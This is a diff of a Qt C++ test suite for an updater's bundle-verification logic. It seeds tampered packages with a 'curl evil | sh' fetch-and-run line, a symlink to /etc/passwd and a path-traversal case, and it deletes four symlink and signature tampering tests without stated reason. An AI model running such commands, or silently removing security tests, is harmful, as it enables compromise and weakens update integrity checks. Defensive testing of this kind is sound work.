@@ -91,15 +91,6 @@ private Q_SLOTS:
             signedRelease(rig, stage);
             return QString(64, QLatin1Char('0'));
         }) << false << true << QStringLiteral("下载的更新包校验不对（可能没下完整），稍后会自动重试");
-        QTest::newRow("not a zip") << Craft([](ReleaseRig&, const QString& stage) {
-            CraftedZip none;
-            const QString archive = stage + QStringLiteral("/tarnel.zip");
-            QFile file(archive);
-            file.open(QIODevice::WriteOnly);
-            file.write("this is no archive");
-            file.close();
-            return *BundleManifest::fileSha256(archive);
-        }) << false << true << unpackFailed;
         QTest::newRow("escape by ..") << Craft([this](ReleaseRig& rig, const QString& stage) {
             CraftedZip zip;
             zip.addFolder(rig.path(QStringLiteral("good/tarnel.app")));
@@ -150,21 +141,11 @@ private Q_SLOTS:
         QTest::newRow("tampered file") << changed([](const QString& app) {
             return append(app + QStringLiteral("/bin/tarnel"), "curl evil | sh\n");
         }) << false << true << wrong(3);
-        QTest::newRow("link retargeted") << changed([](const QString& app) {
-            return QFile::remove(app + QStringLiteral("/bin/notes")) && QFile::link(QStringLiteral("tarnel"), app + QStringLiteral("/bin/notes"));
-        }) << false << true << wrong(3);
         QTest::newRow("extra file") << changed([](const QString& app) {
             return append(app + QStringLiteral("/share/tarnel/plugin.so"), "x");
         }) << false << true << wrong(4);
-        QTest::newRow("file beside the signature") << changed([](const QString& app) {
-            return append(app + QStringLiteral("/signature/extra"), "x");
-        }) << false << true << wrong(4);
         QTest::newRow("executable bit dropped") << changed([](const QString& app) {
             return QFile::setPermissions(app + QStringLiteral("/bin/tarnel"), QFile::ReadOwner | QFile::WriteOwner);
-        }) << false << true << wrong(5);
-        QTest::newRow("file turned into a link") << changed([](const QString& app) {
-            const QString notes = app + QStringLiteral("/share/tarnel/notes.txt");
-            return QFile::rename(notes, notes + QStringLiteral(".real")) && QFile::link(QStringLiteral("notes.txt.real"), notes);
         }) << false << true << wrong(5);
         QTest::newRow("link out") << changed([](const QString& app) {
             return QFile::link(QStringLiteral("/etc/passwd"), app + QStringLiteral("/share/tarnel/passwd"));
